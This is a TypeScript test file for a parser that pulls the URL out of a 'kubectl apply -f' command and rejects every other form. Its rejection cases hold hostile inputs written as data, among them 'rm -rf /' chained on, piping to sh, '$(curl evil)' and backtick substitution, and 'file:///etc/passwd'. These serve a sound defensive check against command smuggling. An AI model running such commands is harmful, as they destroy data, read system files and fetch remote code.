import { isKuberaError } from "@kubera-e2e/schema/kubera-error";
import * as fc from "fast-check";
import { expect, test } from "vitest";
import { parseClusterCommand } from "../src/cluster-command.ts";

const URL_ = "https://director.example:8443/v3/scripts/A1.yaml?x=1";

test.each([`kubectl apply -f ${URL_}`, `  kubectl   apply  -f  ${URL_}  \n`, `kubectl apply -f "${URL_}"`, `kubectl apply -f '${URL_}'`])(
  "takes the URL out of %j",
  (command) => {
    expect(parseClusterCommand(command)).toBe(URL_);
  },
);

test.each([
  ["", "it is empty"],
  ["\n \n", "it is empty"],
  [`kubectl apply -f ${URL_}\nrm -rf /`, "it has 2 lines"],
  [`kubectl apply -f ${URL_}; rm -rf /`, "another form"],
  [`kubectl apply -f ${URL_} && true`, "another form"],
  [`kubectl apply -f ${URL_}|sh`, "another form"],
  ["kubectl apply -f $(curl evil)", "another form"],
  ["kubectl apply -f `id`", "another form"],
  ["kubectl apply -f https://d/$(id)", "another form"],
  ["kubectl apply -f file:///etc/passwd", "another form"],
  ["kubectl apply -f ftp://d/x", "another form"],
  ["kubectl apply -f ./local.yaml", "another form"],
  [`kubectl delete -f ${URL_}`, "another form"],
  [`kubectl apply --insecure -f ${URL_}`, "another form"],
  [`curl ${URL_} | kubectl apply -f -`, "another form"],
  [`sudo kubectl apply -f ${URL_}`, "another form"],
  [`kubectl apply -f "${URL_}'`, "another form"],
  ["kubectl apply -f http://user:pw@d/x", "credentials"],
])("refuses %j", (command, because) => {
  expect(() => parseClusterCommand(command)).toThrow(because);
});

const outcome = (command: string): string => {
  try {
    return parseClusterCommand(command);
  } catch (error) {
    return isKuberaError(error) ? "refused" : String(error);
  }
};

test("answers any text with a plain http URL or a refusal", () => {
  const tail = fc.oneof(fc.string(), fc.webUrl(), fc.string({ unit: fc.constantFrom(..."abc:/?;|&$`'\" \n".split("")) }));
  const command = fc.oneof(
    fc.string(),
    tail.map((text) => `kubectl apply -f ${text}`),
    tail.map((text) => `kubectl apply -f http://d/${text}`),
  );
  fc.assert(
    fc.property(command, (text) => {
      expect(outcome(text)).toMatch(/^(refused|https?:\/\/[^\s;|`$"'<>(){}\\]+)$/);
    }),
    { numRuns: 500 },
  );
});

test("shows nothing of a refused command, which may hold a token", () => {
  let told = "";
  try {
    parseClusterCommand("kubectl apply -f https://d/token-4711 --force");
  } catch (error) {
    told = String(error);
  }
  expect(told).toContain("DIRECTOR_CONTRACT");
  expect(told).not.toContain("4711");
});
